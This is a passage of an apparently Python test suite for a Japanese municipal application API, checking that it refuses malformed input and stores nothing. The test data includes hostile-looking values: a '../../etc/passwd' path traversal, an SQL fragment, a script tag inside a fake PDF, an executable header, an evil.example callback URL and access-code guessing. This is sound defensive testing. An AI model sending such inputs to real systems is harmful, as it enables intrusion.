"""What the API does with input it must refuse: a clear 4xx problem document, and nothing stored.

Every refusal here is checked twice: the answer (status, problem type, field and code) and
the database and file store (no case, attachment, audit entry, receipt number or file).
Messages are asserted in English (Accept-Language: en); Japanese is the default.
"""

from __future__ import annotations

import json
from types import SimpleNamespace

import django_ratelimit.core
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone
from tests.api.support import (
    JSON_ONLY_SLUG,
    agent_answers,
    applications_url,
    assert_problem,
    error_codes,
    json_only_answers,
    juminhyo_answers,
    pdf_bytes,
    pdf_upload,
    png_upload,
    post_json,
    post_multipart,
    post_raw,
    post_with_id,
    procedure_url,
    procedures_url,
    status_url,
    stored_case,
)

from madoguchi.cases.models import Attachment, Case
from madoguchi.cases.services import case_submit
from madoguchi.procedures.answers import clean_answers
from madoguchi.procedures.errors import AnswersInvalid

pytestmark = pytest.mark.django_db

EN = {"HTTP_ACCEPT_LANGUAGE": "en"}
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
ZIP = b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + b"\x00" * 20
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48


def nested_list(depth: int) -> str:
    return "[" * depth + "]" * depth


def refused(response, status: int, kind: str, unchanged) -> dict:
    body = assert_problem(response, status, kind)
    unchanged()
    return body


def invalid(response, unchanged) -> list[tuple[str, str]]:
    codes = error_codes(response)
    unchanged()
    return codes


def messages(response) -> dict[str, str]:
    return {e["field"]: e["message"] for e in json.loads(response.content)["errors"]}


# --- the body -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "body",
    [
        b'{"answers": ',
        b"{'answers': {}}",
        b'{"answers": {},}',
        b'{"answers": {"copies": 01}}',
        b"\xff\xfe\x00\xd8",
        json.dumps({"answers": {"notes": "山田"}}, ensure_ascii=False).encode("shift_jis"),
        b"answers=%7B%7D",
    ],
    ids=["truncated", "single-quotes", "trailing-comma", "leading-zero", "invalid-utf-16", "shift-jis", "form-encoded"],
)
def test_malformed_json_is_400(client, unchanged, body):
    response = post_raw(client, body)

    assert refused(response, 400, "malformed-request", unchanged)["detail"].startswith("Invalid JSON")


def test_empty_json_body_is_400(client, unchanged):
    response = post_raw(client, b"", CONTENT_TYPE="application/json")

    refused(response, 400, "malformed-request", unchanged)


@pytest.mark.parametrize("body", ["[]", '[{"answers": {}}]', '"answers"', "null", "42", "true"])
def test_json_body_that_is_not_an_object_is_400(client, unchanged, body):
    response = post_raw(client, body)

    assert refused(response, 400, "malformed-request", unchanged)["detail"] == "The body must be a JSON object."


@pytest.mark.parametrize(
    "document",
    [{}, {"answers": []}, {"answers": "{}"}, {"answers": None}, {"answers": 1}, {"Answers": {}}],
    ids=["missing", "list", "json-in-a-string", "null", "number", "wrong-case"],
)
def test_answers_that_are_not_an_object_are_400(client, unchanged, document):
    response = post_raw(client, json.dumps(document))

    assert refused(response, 400, "malformed-request", unchanged)["detail"] == "'answers' must be a JSON object."


def test_unknown_top_level_member_is_400(client, unchanged):
    response = post_raw(client, json.dumps({"answers": juminhyo_answers(), "callback_url": "https://evil.example"}))

    assert refused(response, 400, "malformed-request", unchanged)["detail"] == "Unknown member(s): callback_url."


def test_duplicate_member_is_400_not_last_one_wins(client, unchanged):
    body = f'{{"answers": {json.dumps(juminhyo_answers())}, "answers": {{}}}}'

    response = post_raw(client, body)

    assert refused(response, 400, "malformed-request", unchanged)["detail"] == "Duplicate member name: 'answers'."


def test_duplicate_answer_key_is_400(client, unchanged):
    body = json.dumps({"answers": juminhyo_answers()})[:-2] + ', "copies": 9}}'

    refused(post_raw(client, body), 400, "malformed-request", unchanged)


@pytest.mark.parametrize("constant", ["NaN", "Infinity", "-Infinity"])
def test_non_json_number_constant_is_400(client, unchanged, constant):
    body = json.dumps({"answers": juminhyo_answers(copies=0)}).replace('"copies": 0', f'"copies": {constant}')

    refused(post_raw(client, body), 400, "malformed-request", unchanged)


@pytest.mark.parametrize(
    "escaped", ["\\ud800", "\\udfff", "a\\udc00b"], ids=["high-surrogate", "low-surrogate", "inside-text"]
)
def test_unpaired_surrogate_escape_is_400(client, unchanged, escaped):
    body = json.dumps({"answers": juminhyo_answers(notes="X")}).replace('"X"', f'"{escaped}"')

    response = post_raw(client, body)

    assert "surrogate" in refused(response, 400, "malformed-request", unchanged)["detail"]


def test_paired_surrogate_escape_is_a_character(client, aoba):
    body = json.dumps({"answers": json_only_answers(client, item_list="X")}).replace('"X"', '"\\ud842\\udfb7"')

    response = post_raw(client, body, slug=JSON_ONLY_SLUG)

    assert response.status_code == 201
    assert stored_case(aoba, response.json()["receipt_number"]).answers["item_list"] == "𠮷"


def test_ten_thousand_nested_lists_are_400_not_500(client, unchanged):
    response = post_raw(client, nested_list(10_000))

    refused(response, 400, "malformed-request", unchanged)


@pytest.mark.parametrize("depth", [8, 50, 900])
def test_deeply_nested_answer_is_400_not_500(client, unchanged, depth):
    body = json.dumps({"answers": juminhyo_answers(notes="X")}).replace('"X"', nested_list(depth))

    response = post_raw(client, body)

    assert "nested" in refused(response, 400, "malformed-request", unchanged)["detail"]


def test_deeply_nested_object_in_an_answer_is_400_not_500(client, unchanged):
    body = json.dumps({"answers": juminhyo_answers(requester_name="X")}).replace('"X"', '{"a":' * 900 + "1" + "}" * 900)

    refused(post_raw(client, body), 400, "malformed-request", unchanged)


@pytest.mark.parametrize(
    "language", ["x" * 13, "ja\x00", 5, "日本語", "../../etc/passwd", "en;DROP TABLE", ["en"]], ids=repr
)
def test_invalid_language_is_400(client, unchanged, language):
    response = post_json(client, juminhyo_answers(), language=language)

    assert refused(response, 400, "malformed-request", unchanged)["detail"].startswith("'language' must be")


@pytest.mark.parametrize("language", ["en", "zh-Hant-TW"])
def test_valid_language_tag_is_stored(client, aoba, language):
    response = post_with_id(client, juminhyo_answers(), language=language)

    assert stored_case(aoba, response.json()["receipt_number"]).language == language


@pytest.mark.parametrize(
    "content_type",
    ["text/plain", "application/x-www-form-urlencoded", "application/xml", "application/merge-patch+json"],
)
def test_unsupported_content_type_is_415(client, unchanged, content_type):
    response = post_raw(client, json.dumps({"answers": juminhyo_answers()}), content_type, **EN)

    body = refused(response, 415, "unsupported-media-type", unchanged)
    assert body["title"] == "Send the request as application/json or multipart/form-data."


# --- multipart envelope ---------------------------------------------------------------------------


def test_multipart_without_answers_part_is_400(client, unchanged):
    response = client.post(applications_url(), {"language": "ja"})

    detail = refused(response, 400, "malformed-request", unchanged)["detail"]
    assert detail == "Send the answers as a part named 'answers'."


def test_multipart_answers_sent_as_a_file_is_400(client, unchanged):
    upload = SimpleUploadedFile("answers.json", json.dumps(juminhyo_answers()).encode(), "application/json")

    refused(client.post(applications_url(), {"answers": upload}), 400, "malformed-request", unchanged)


@pytest.mark.parametrize(
    ("answers", "detail"),
    [
        ("{", "Invalid JSON in 'answers'"),
        ("[]", "'answers' must be a JSON object."),
        ('"{}"', "'answers' must be a JSON object."),
        (nested_list(10_000), "The JSON in 'answers' is nested too deeply."),
        ('{"notes": "\\ud800"}', "The JSON text contains an unpaired surrogate escape"),
    ],
    ids=["truncated", "list", "string", "deeply-nested", "surrogate"],
)
def test_multipart_answers_part_must_be_a_json_object(client, unchanged, answers, detail):
    response = client.post(applications_url(), {"answers": answers})

    assert refused(response, 400, "malformed-request", unchanged)["detail"].startswith(detail)


def test_multipart_answers_in_shift_jis_is_400_not_stored_as_mojibake(client, unchanged):
    answers = json.dumps(juminhyo_answers(), ensure_ascii=False).encode("shift_jis")
    body = b'--B\r\nContent-Disposition: form-data; name="answers"\r\n\r\n' + answers + b"\r\n--B--\r\n"

    response = post_raw(client, body, "multipart/form-data; boundary=B")

    assert refused(response, 400, "malformed-request", unchanged)["detail"] == "Send the parts as UTF-8 text."


def test_multipart_answers_in_utf8_keep_their_japanese(client, aoba):
    answers = json.dumps(juminhyo_answers(), ensure_ascii=False).encode()
    identity = (
        b'--B\r\nContent-Disposition: form-data; name="identity_document"; filename="id.pdf"\r\n'
        b"Content-Type: application/pdf\r\n\r\n" + pdf_bytes() + b"\r\n"
    )
    body = b'--B\r\nContent-Disposition: form-data; name="answers"\r\n\r\n' + answers + b"\r\n" + identity + b"--B--\r\n"

    response = post_raw(client, body, "multipart/form-data; boundary=B")

    assert response.status_code == 201, response.content[:500]
    assert stored_case(aoba, response.json()["receipt_number"]).answers["requester_name"]["family"] == "山田"


def test_multipart_answers_spread_over_form_fields_is_400(client, unchanged):
    """A resident's tool posting an HTML form instead of the answers object."""
    response = client.post(applications_url(), {"answers": "{}", "phone": "0292001234", "copies": "1"})

    detail = refused(response, 400, "malformed-request", unchanged)["detail"]
    assert detail.startswith("Unknown part(s): copies, phone.")


def test_multipart_file_field_sent_as_text_part_is_400(client, unchanged):
    response = post_with_id(client, agent_answers(), parts={"power_of_attorney": "委任状.pdf"})

    assert refused(response, 400, "malformed-request", unchanged)["detail"].startswith(
        "Unknown part(s): power_of_attorney."
    )


def test_multipart_answers_part_twice_is_400(client, unchanged):
    response = client.post(applications_url(), {"answers": [json.dumps(juminhyo_answers()), "{}"]})

    assert refused(response, 400, "malformed-request", unchanged)["detail"] == "Send the part 'answers' once."


def test_multipart_with_invalid_language_is_400(client, unchanged):
    response = post_multipart(client, juminhyo_answers(), parts={"language": "x" * 50})

    refused(response, 400, "malformed-request", unchanged)


def test_multipart_without_boundary_is_400(client, unchanged):
    response = post_raw(client, b"--x\r\n", "multipart/form-data")

    refused(response, 400, "malformed-request", unchanged)


# --- answers: types and formats -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("changes", "expected"),
    [
        pytest.param({"requester_name": 5}, ("requester_name", "wrong_type"), id="number-for-a-name"),
        pytest.param({"requester_name": "山田花子"}, ("requester_name", "wrong_type"), id="string-for-a-name"),
        pytest.param(
            {"requester_name": {**juminhyo_answers()["requester_name"], "middle": "X"}},
            ("requester_name.middle", "unknown_field"),
            id="unknown-name-part",
        ),
        pytest.param(
            {"target_birth_date": {"year": 1980}}, ("target_birth_date", "wrong_type"), id="object-for-a-date"
        ),
        pytest.param({"relationship": ["self"]}, ("relationship", "wrong_type"), id="list-for-a-choice"),
        pytest.param({"relationship": True}, ("relationship", "wrong_type"), id="boolean-for-a-choice"),
        pytest.param({"consent": "no"}, ("consent", "consent_required"), id="string-no-for-consent"),
        pytest.param({"consent": False}, ("consent", "consent_required"), id="false-for-consent"),
        pytest.param({"consent": 1}, ("consent", "consent_required"), id="number-for-consent"),
        pytest.param({"copies": 1.5}, ("copies", "wrong_type"), id="float-for-an-integer"),
        pytest.param({"copies": "1.5"}, ("copies", "invalid_integer"), id="decimal-string-for-an-integer"),
        pytest.param({"copies": True}, ("copies", "wrong_type"), id="boolean-for-an-integer"),
        pytest.param({"copies": "二"}, ("copies", "invalid_integer"), id="kanji-numeral-for-an-integer"),
        pytest.param({"copies": "1e1"}, ("copies", "invalid_integer"), id="exponent-for-an-integer"),
        pytest.param({"notes": ["a"]}, ("notes", "wrong_type"), id="list-for-text"),
        pytest.param({"notes": {"text": "a"}}, ("notes", "wrong_type"), id="object-for-text"),
        pytest.param({"target_address": "茨城県青葉市"}, ("target_address", "wrong_type"), id="string-for-an-address"),
        pytest.param(
            {"include_items": {"honseki": True}}, ("include_items", "wrong_type"), id="object-for-multichoice"
        ),
        pytest.param(
            {"include_items": [["honseki"]]}, ("include_items", "wrong_type"), id="nested-list-for-multichoice"
        ),
    ],
)
def test_answer_of_the_wrong_type_is_422(client, unchanged, changes, expected):
    assert invalid(post_with_id(client, juminhyo_answers(**changes)), unchanged) == [expected]


@pytest.mark.parametrize(
    ("changes", "expected", "message"),
    [
        pytest.param({"notes": "あ" * 1001}, ("notes", "too_long"), "Enter at most 1000 characters.", id="textarea"),
        pytest.param({"notes": "x" * 10_000}, ("notes", "too_long"), "Enter at most 1000 characters.", id="10000"),
        pytest.param(
            {"requester_name": {"family": "山" * 41, "family_kana": "ヤマ"}},
            ("requester_name.family", "too_long"),
            "Enter at most 40 characters.",
            id="name-part",
        ),
        pytest.param(
            {"requester_name": {"family": "山田", "family_kana": "ヤ" * 81}},
            ("requester_name.family_kana", "too_long"),
            "Enter at most 80 characters.",
            id="furigana",
        ),
        pytest.param(
            {"target_address": {**juminhyo_answers()["target_address"], "building": "棟" * 10_000}},
            ("target_address.building", "too_long"),
            "Enter at most 100 characters.",
            id="address-part",
        ),
        pytest.param(
            {"email": "a" * 10_000 + "@example.jp"},
            ("email", "invalid_email"),
            "Enter a valid email address.",
            id="email",
        ),
        pytest.param({"phone": "0" * 10_000}, ("phone", "invalid_phone"), None, id="phone"),
        pytest.param({"copies": "9" * 10_000}, ("copies", "invalid_integer"), "Enter a whole number.", id="integer"),
        pytest.param({"target_birth_date": "2" * 10_000}, ("target_birth_date", "invalid_date"), None, id="date"),
    ],
)
def test_over_long_answer_is_422(client, unchanged, changes, expected, message):
    response = post_with_id(client, juminhyo_answers(**changes), **EN)

    assert invalid(response, unchanged) == [expected]
    if message:
        assert messages(response)[expected[0]] == message


def test_normalisation_cannot_smuggle_text_past_the_length_limit(client, unchanged):
    # U+FDFA is one character that NFKC turns into eighteen: the limit applies to the stored text.
    response = post_with_id(client, juminhyo_answers(notes="\ufdfa" * 100))

    assert invalid(response, unchanged) == [("notes", "too_long")]


@pytest.mark.parametrize(
    ("typed", "code"),
    [
        ("令和0年4月1日", "invalid_date"),
        ("2020年2月30日", "invalid_date"),
        ("2021-02-29", "invalid_date"),
        ("平成31年5月1日", "out_of_era"),
        ("昭和64年1月8日", "out_of_era"),
        ("2026-13-01", "invalid_date"),
        ("2026-00-10", "invalid_date"),
        ("0000-01-01", "invalid_date"),
        ("令和八年四月一日", "invalid_date"),
        ("X8.4.1", "invalid_date"),
        ("1980-05-06T00:00:00", "invalid_date"),
        ("昨日", "invalid_date"),
        ("1800-01-01", "date_too_early"),
        ("2999-12-31", "date_too_late"),
        ("", "required"),
        ("\u3000 ", "required"),
    ],
)
def test_invalid_date_is_422(client, unchanged, typed, code):
    response = post_with_id(client, juminhyo_answers(target_birth_date=typed))

    assert invalid(response, unchanged) == [("target_birth_date", code)]


def test_date_messages_are_in_english(client, unchanged):
    response = post_with_id(client, juminhyo_answers(target_birth_date="平成31年5月1日"), **EN)

    assert messages(response) == {
        "target_birth_date": "平成31年5月1日 does not exist: the era had changed. Did you mean 令和元年5月1日?"
    }
    unchanged()


@pytest.mark.parametrize("postal_code", ["123-456", "abcdefg", "1234567８９", "〒", "12-34567", "1000-001"])
def test_invalid_postal_code_is_422(client, unchanged, postal_code):
    address = {**juminhyo_answers()["target_address"], "postal_code": postal_code}

    response = post_with_id(client, juminhyo_answers(target_address=address))

    assert invalid(response, unchanged) == [("target_address.postal_code", "invalid_postal_code")]


def test_unknown_prefecture_is_422(client, unchanged):
    address = {**juminhyo_answers()["target_address"], "prefecture": "東京"}

    response = post_with_id(client, juminhyo_answers(target_address=address))

    assert invalid(response, unchanged) == [("target_address.prefecture", "invalid_choice")]


@pytest.mark.parametrize(
    "phone", ["12345", "090-1234-567", "03-1234-56789", "abc", "010-1234-5678", "+1 212 555 0100", "0120-12-34"]
)
def test_invalid_phone_is_422(client, unchanged, phone):
    response = post_with_id(client, juminhyo_answers(phone=phone), **EN)

    assert invalid(response, unchanged) == [("phone", "invalid_phone")]
    assert messages(response)["phone"] == "Enter a Japanese phone number of 10 or 11 digits, e.g. 03-1234-5678."


@pytest.mark.parametrize(
    "email",
    ["a@@b.jp", "hanako@", "@example.jp", "hanako@例え.jp", "花子@example.jp", "hanako example.jp", "a..b@example.jp"],
)
def test_invalid_email_is_422(client, unchanged, email):
    assert invalid(post_with_id(client, juminhyo_answers(email=email)), unchanged) == [("email", "invalid_email")]


@pytest.mark.parametrize(
    ("copies", "code", "message"),
    [
        (0, "too_small", "Enter a value of at least 1."),
        (-1, "too_small", "Enter a value of at least 1."),
        (11, "too_large", "Enter a value of at most 10."),
        ("１１", "too_large", "Enter a value of at most 10."),
        (10**30, "too_large", "Enter a value of at most 10."),
    ],
)
def test_integer_out_of_bounds_is_422(client, unchanged, copies, code, message):
    response = post_with_id(client, juminhyo_answers(copies=copies), **EN)

    assert invalid(response, unchanged) == [("copies", code)]
    assert messages(response) == {"copies": message}


@pytest.mark.parametrize(
    ("changes", "expected"),
    [
        ({"relationship": "boss"}, ("relationship", "invalid_choice")),
        ({"relationship": "本人"}, ("relationship", "invalid_choice")),
        ({"relationship": "SELF"}, ("relationship", "invalid_choice")),
        ({"purpose": "drivers_license\x00"}, ("purpose", "invalid_choice")),
        ({"include_items": ["honseki", "password"]}, ("include_items", "invalid_choice")),
    ],
)
def test_unknown_choice_is_422(client, unchanged, changes, expected):
    assert invalid(post_with_id(client, juminhyo_answers(**changes)), unchanged) == [expected]


@pytest.mark.parametrize(
    "key", ["favourite_colour", "__proto__", "ｐｈｏｎｅ", "Phone", "status", "pho\x00ne", "k" * 10_000]
)
def test_unknown_answer_key_is_422(client, unchanged, key):
    response = post_with_id(client, juminhyo_answers(**{key: "x"}))

    assert invalid(response, unchanged) == [(key, "unknown_field")]


def test_every_unknown_key_is_listed(client, unchanged):
    extra = {f"extra_{n:03d}": n for n in range(300)}

    response = post_with_id(client, juminhyo_answers(**extra))

    assert invalid(response, unchanged) == [(key, "unknown_field") for key in sorted(extra)]


def test_missing_required_answers_are_each_listed_as_required(client, unchanged):
    response = post_json(client, {}, **EN)

    assert invalid(response, unchanged) == [
        ("requester_name", "required"),
        ("relationship", "required"),
        ("target_address", "required"),
        ("target_birth_date", "required"),
        ("scope", "required"),
        ("copies", "required"),
        ("purpose", "required"),
        ("delivery_method", "required"),
        ("phone", "required"),
        ("consent", "required"),
    ]
    # Each message names its field, in the words of the procedure's English labels.
    shown = messages(response)
    assert shown["target_birth_date"] == "Enter date of birth."
    assert shown["purpose"] == "Choose purpose."
    assert shown["consent"] == "You must agree to continue."
    assert len(set(shown.values())) == len(shown)


@pytest.mark.parametrize(
    ("part", "code"),
    [("family", "required"), ("family_kana", "required")],
)
def test_missing_required_name_part_is_422(client, unchanged, part, code):
    name = {**juminhyo_answers()["requester_name"], part: " "}

    response = post_with_id(client, juminhyo_answers(requester_name=name))

    assert invalid(response, unchanged) == [(f"requester_name.{part}", code)]


def test_given_name_without_its_furigana_is_422(client, unchanged):
    name = {"family": "山田", "given": "花子", "family_kana": "ヤマダ"}

    response = post_with_id(client, juminhyo_answers(requester_name=name))

    assert invalid(response, unchanged) == [("requester_name.given_kana", "required")]


def test_furigana_in_kanji_is_422(client, unchanged):
    name = {"family": "山田", "family_kana": "山田"}

    response = post_with_id(client, juminhyo_answers(requester_name=name), **EN)

    assert invalid(response, unchanged) == [("requester_name.family_kana", "not_katakana")]
    assert messages(response) == {"requester_name.family_kana": "Enter this in katakana (カタカナ)."}


@pytest.mark.parametrize("part", ["postal_code", "city", "town", "block"])
def test_missing_required_address_part_is_422(client, unchanged, part):
    address = {**juminhyo_answers()["target_address"], part: ""}

    response = post_with_id(client, juminhyo_answers(target_address=address))

    assert invalid(response, unchanged) == [(f"target_address.{part}", "required")]


# --- conditional fields ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("changes", "expected"),
    [
        (
            {"relationship": "agent"},
            [("power_of_attorney", "file_required"), ("target_name", "required")],
        ),
        ({"purpose": "other"}, [("purpose_other", "required")]),
        ({"delivery_method": "postal"}, [("mailing_address", "required"), ("payment_method", "required")]),
    ],
    ids=["agent-needs-target-and-letter", "other-purpose-needs-text", "postal-needs-address"],
)
def test_conditional_field_is_required_when_its_condition_holds(client, unchanged, changes, expected):
    response = post_with_id(client, juminhyo_answers(**changes))

    assert sorted(invalid(response, unchanged)) == expected


@pytest.mark.parametrize(
    ("changes", "hidden"),
    [
        ({"target_name": {"family": "他人", "family_kana": "タニン"}}, "target_name"),
        ({"purpose_other": "<b>別の目的</b>"}, "purpose_other"),
        ({"mailing_address": juminhyo_answers()["target_address"]}, "mailing_address"),
        ({"mailing_address": "not even an address"}, "mailing_address"),
    ],
    ids=["name-for-self", "other-purpose-text", "mailing-address-for-counter", "invalid-hidden-answer"],
)
def test_answer_to_a_hidden_conditional_field_is_dropped(client, aoba, changes, hidden):
    response = post_with_id(client, juminhyo_answers(**changes))

    assert response.status_code == 201, response.content[:500]
    assert hidden not in stored_case(aoba, response.json()["receipt_number"]).answers


def test_file_for_a_hidden_conditional_field_is_not_stored(client, aoba):
    response = post_with_id(client, juminhyo_answers(relationship="self"), {"power_of_attorney": pdf_upload()})

    assert response.status_code == 201, response.content[:500]
    case = stored_case(aoba, response.json()["receipt_number"])
    assert "power_of_attorney" not in case.answers
    assert not Attachment.objects.for_municipality(aoba).filter(field_id="power_of_attorney").exists()


# --- files ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("upload", "code"),
    [
        pytest.param(SimpleUploadedFile("委任状.pdf", b"", "application/pdf"), "file_empty", id="empty"),
        pytest.param(png_upload("委任状.pdf"), "file_type_mismatch", id="png-named-pdf"),
        pytest.param(pdf_upload("委任状.png", content_type="image/png"), "file_type_mismatch", id="pdf-named-png"),
        pytest.param(pdf_upload("委任状.pdf", content_type="image/png"), "file_type_mismatch", id="declared-png"),
        pytest.param(pdf_upload("委任状.pdf", content_type="text/html"), "file_type_mismatch", id="declared-html"),
        pytest.param(SimpleUploadedFile("委任状.gif", GIF, "image/gif"), "file_type_not_allowed", id="gif"),
        pytest.param(
            SimpleUploadedFile("委任状.pdf", GIF, "application/pdf"), "file_type_not_allowed", id="gif-named-pdf"
        ),
        pytest.param(
            SimpleUploadedFile("委任状.txt", "委任します".encode(), "text/plain"), "file_type_not_allowed", id="text"
        ),
        pytest.param(
            SimpleUploadedFile("委任状.pdf", b"<html><script>alert(1)</script></html>", "application/pdf"),
            "file_type_not_allowed",
            id="html-named-pdf",
        ),
        pytest.param(SimpleUploadedFile("委任状.pdf", EXE, "application/pdf"), "file_type_not_allowed", id="exe"),
        pytest.param(SimpleUploadedFile("委任状.zip", ZIP, "application/zip"), "file_type_not_allowed", id="zip"),
        pytest.param(
            SimpleUploadedFile("委任状.pdf", b"%PDX-1.4 not really", "application/pdf"),
            "file_type_not_allowed",
            id="broken-magic",
        ),
    ],
)
def test_refused_file_is_422(client, unchanged, upload, code):
    response = post_with_id(client, agent_answers(), {"power_of_attorney": upload})

    assert invalid(response, unchanged) == [("power_of_attorney", code)]


def test_file_type_not_allowed_names_the_accepted_types(client, unchanged):
    response = post_multipart(
        client, agent_answers(), {"power_of_attorney": SimpleUploadedFile("a.gif", GIF, "image/gif")}, **EN
    )

    assert messages(response) == {
        "power_of_attorney": "This type of file is not accepted. Accepted: PDF, JPEG, PNG, HEIC."
    }
    unchanged()


def test_file_over_the_size_limit_is_422(client, unchanged, settings):
    settings.MADOGUCHI_MAX_UPLOAD_BYTES = 1024 * 1024
    upload = pdf_upload(content=pdf_bytes("x" * (1024 * 1024 + 1)))

    response = post_with_id(client, agent_answers(), {"power_of_attorney": upload}, **EN)

    assert invalid(response, unchanged) == [("power_of_attorney", "file_too_large")]
    assert messages(response) == {"power_of_attorney": "The file is too large (at most 1 MB)."}


def test_more_files_than_the_field_allows_is_422(client, unchanged):
    uploads = [pdf_upload(f"{n}.pdf", pdf_bytes(str(n))) for n in range(3)]

    response = post_with_id(client, agent_answers(), {"power_of_attorney": uploads}, **EN)

    assert invalid(response, unchanged) == [("power_of_attorney", "too_many_files")]
    assert "2" in messages(response)["power_of_attorney"]


def test_more_files_than_a_request_may_carry_is_413(client, unchanged):
    uploads = [pdf_upload(f"{n}.pdf", pdf_bytes(str(n))) for n in range(21)]

    response = post_with_id(client, agent_answers(), {"power_of_attorney": uploads})

    refused(response, 413, "payload-too-large", unchanged)


def test_file_part_for_an_unknown_field_is_422(client, unchanged):
    response = post_multipart(client, juminhyo_answers(), {"passport_scan": pdf_upload()})

    assert invalid(response, unchanged) == [("passport_scan", "unknown_field")]


def test_png_for_a_pdf_only_field_is_422(client, unchanged):
    example = client.get(procedure_url("082015", "doro-senyo")).json()["example"]["answers"]

    response = post_multipart(client, example, {"plan_drawing": png_upload("図面.png")}, slug="doro-senyo")

    assert invalid(response, unchanged) == [("plan_drawing", "file_type_not_allowed")]


def test_required_file_missing_is_422(client, unchanged):
    response = post_with_id(client, agent_answers(), {}, **EN)

    assert invalid(response, unchanged) == [("power_of_attorney", "file_required")]
    assert messages(response) == {"power_of_attorney": "Attach letter of authorisation."}


@pytest.mark.parametrize(
    "value",
    [
        "JVBERi0xLjQK",
        ["JVBERi0xLjQK"],
        True,
        7,
        {"name": "委任状.pdf"},
        [{"name": "委任状.pdf", "content_type": "application/pdf", "size": 1, "sha256": "0" * 64}],
    ],
    ids=["base64-string", "list-of-strings", "true", "number", "object", "forged-attachment-description"],
)
def test_file_sent_in_a_json_body_is_wrong_type(client, unchanged, value):
    response = post_json(client, agent_answers(power_of_attorney=value))

    assert invalid(response, unchanged) == [("power_of_attorney", "wrong_type")]


# --- headers, sizes, methods, addresses -----------------------------------------------------------


@pytest.mark.parametrize(
    "key",
    ["k" * 101, "キー", "order\x0042", "order\x01", "order 42", "order\t42", "", "\x7f", "ｏｒｄｅｒ"],
    ids=["101-chars", "non-ascii", "nul", "control", "space", "tab", "empty", "delete", "full-width"],
)
def test_invalid_idempotency_key_is_400(client, unchanged, key):
    response = post_with_id(client, juminhyo_answers(), key=key, **EN)

    body = refused(response, 400, "invalid-idempotency-key", unchanged)
    assert body["title"] == "The Idempotency-Key header must be 1 to 100 visible ASCII characters."


def test_body_over_the_request_limit_is_413_before_it_is_read(client, unchanged, settings):
    settings.MADOGUCHI_MAX_UPLOAD_BYTES = 4096
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 4096  # request limit: 4096 * 20 / 4 + 4096 = 24 KiB
    upload = pdf_upload(content=pdf_bytes("x" * 30_000))

    response = post_with_id(client, agent_answers(), {"power_of_attorney": upload}, **EN)

    assert refused(response, 413, "payload-too-large", unchanged)["title"] == "The request is too large."


def test_json_body_over_the_data_limit_is_413(client, unchanged, settings):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 4096

    response = post_with_id(client, juminhyo_answers(notes="x" * 5000))

    refused(response, 413, "payload-too-large", unchanged)


def test_invalid_content_length_is_413(client, unchanged):
    response = post_raw(client, json.dumps({"answers": juminhyo_answers()}), CONTENT_LENGTH="-1")

    refused(response, 413, "payload-too-large", unchanged)


@pytest.mark.parametrize(
    ("method", "url", "allowed"),
    [
        ("get", applications_url(), "POST"),
        ("put", applications_url(), "POST"),
        ("delete", applications_url(), "POST"),
        ("post", procedure_url(), "GET, HEAD"),
        ("post", procedures_url(), "GET, HEAD"),
        ("patch", "/api/v1/municipalities", "GET, HEAD"),
        ("delete", status_url("082015-2026-000001"), "GET, HEAD"),
        ("put", status_url("082015-2026-000001"), "GET, HEAD"),
    ],
)
def test_wrong_method_is_a_405_problem(client, unchanged, method, url, allowed):
    response = getattr(client, method)(url, **EN)

    body = refused(response, 405, "method-not-allowed", unchanged)
    assert body["title"] == "Method not allowed."
    assert response["Allow"] == allowed


@pytest.mark.parametrize(
    ("code", "slug"),
    [
        ("999999", "juminhyo-copy"),
        ("082015", "no-such-procedure"),
        ("082023", "doro-senyo"),
        ("08201５", "juminhyo-copy"),
    ],
)
def test_submit_to_an_unknown_municipality_or_procedure_is_404(client, unchanged, code, slug):
    response = post_with_id(client, juminhyo_answers(), code=code, slug=slug)

    refused(response, 404, "not-found", unchanged)


# --- rate limits ----------------------------------------------------------------------------------


@pytest.fixture
def rate_clock(monkeypatch):
    """Pin django-ratelimit's clock so that a test never straddles two rate windows."""
    monkeypatch.setattr(django_ratelimit.core, "time", SimpleNamespace(time=lambda: 1_900_000_020.0))


def test_fourth_submit_in_a_minute_is_429(client, aoba, settings, rate_clock):
    settings.MADOGUCHI_SUBMIT_RATE = "3/m"
    for _ in range(3):
        assert post_with_id(client, juminhyo_answers()).status_code == 201

    response = post_with_id(client, juminhyo_answers(), **EN)

    body = assert_problem(response, 429, "rate-limited")
    assert body["title"] == "Too many requests. Please wait a moment and try again."
    assert response["Retry-After"] == "60"
    assert Case.objects.for_municipality(aoba).count() == 3


def test_refused_submits_count_towards_the_rate_limit(client, unchanged, settings, rate_clock):
    settings.MADOGUCHI_SUBMIT_RATE = "3/m"
    for _ in range(3):
        assert post_json(client, {}).status_code == 422

    refused(post_with_id(client, juminhyo_answers()), 429, "rate-limited", unchanged)


def test_submit_rate_limit_is_per_client_address(client, aoba, settings, rate_clock):
    settings.MADOGUCHI_SUBMIT_RATE = "3/m"
    for _ in range(4):
        post_with_id(client, juminhyo_answers())

    response = post_with_id(client, juminhyo_answers(), REMOTE_ADDR="198.51.100.7")

    assert response.status_code == 201


def test_fourth_status_lookup_in_a_minute_is_429(client, aoba, settings, rate_clock):
    settings.MADOGUCHI_LOOKUP_RATE = "3/m"
    created = post_with_id(client, juminhyo_answers()).json()
    url, code = status_url(created["receipt_number"]), created["access_code"]
    for _ in range(3):
        assert client.get(url, HTTP_X_ACCESS_CODE=code).status_code == 200

    response = client.get(url, HTTP_X_ACCESS_CODE=code)

    assert_problem(response, 429, "rate-limited")
    assert response["Retry-After"] == "60"


def test_guessing_access_codes_runs_into_the_rate_limit(client, aoba, settings, rate_clock):
    settings.MADOGUCHI_LOOKUP_RATE = "3/m"
    created = post_with_id(client, juminhyo_answers()).json()
    url = status_url(created["receipt_number"])
    for guess in ("AAAAAAAAAAAA", "BBBBBBBBBBBB", "CCCCCCCCCCCC"):
